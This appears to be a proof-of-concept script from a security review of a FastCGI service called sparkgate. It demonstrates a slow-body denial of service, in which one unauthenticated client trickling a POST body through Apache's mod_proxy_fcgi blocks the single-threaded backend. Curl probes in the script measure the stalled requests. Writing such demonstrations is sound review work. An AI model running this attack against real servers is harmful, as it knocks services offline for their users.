#!/usr/bin/env python3
"""PoC (attack review): behind deploy/apache-proxy-fcgi.conf (mod_proxy_fcgi streams request
bodies to the backend as they arrive), ONE unauthenticated client that POSTs to /healthz and
trickles its body at 600 B/s (above Debian's mod_reqtimeout minrate of 500 B/s) holds a
sparkgate process for as long as it likes: the process is single-threaded and blocks in
adapt_request()'s body read (fcgi/adapter.c) or finish_kept()'s drain (fcgi/main.c), so
every other request -- logged-in users' API calls included -- waits.  With the systemd socket
(one process) or spawn-fcgi -F 2 (two such clients) the API is down.

usage: proxy_fcgi_slow_body.py HOST PORT SECONDS USER:PASSWORD
(Apache with deploy/apache-proxy-fcgi.conf in front of ONE sparkgate process.)"""
import socket, subprocess, sys, threading, time

host, port, secs, cred = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
s = socket.create_connection((host, port))
s.sendall(b"POST /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n")
t0 = time.time()

def probe():
    time.sleep(2)
    while time.time() - t0 < secs - 8:
        t = time.time()
        r = subprocess.run(["curl", "-s", "-m", "8", "-o", "/dev/null", "-w", "%{http_code}", "-u", cred,
                            "http://%s:%d/v1/submissions/status/driver-1" % (host, port)],
                           capture_output=True, text=True)
        print("logged-in status request: HTTP %s after %.2fs" % (r.stdout, time.time() - t), flush=True)

threading.Thread(target=probe, daemon=True).start()
while time.time() - t0 < secs:
    s.sendall(b"x" * 300)
    time.sleep(0.5)
s.close()
print("slow client gone after %.0fs" % secs, flush=True)
time.sleep(1)
r = subprocess.run(["curl", "-s", "-m", "8", "-o", "/dev/null", "-w", "%{http_code} %{time_total}", "-u", cred,
                    "http://%s:%d/v1/submissions/status/driver-1" % (host, port)], capture_output=True, text=True)
print("control, after: HTTP %s s" % r.stdout)
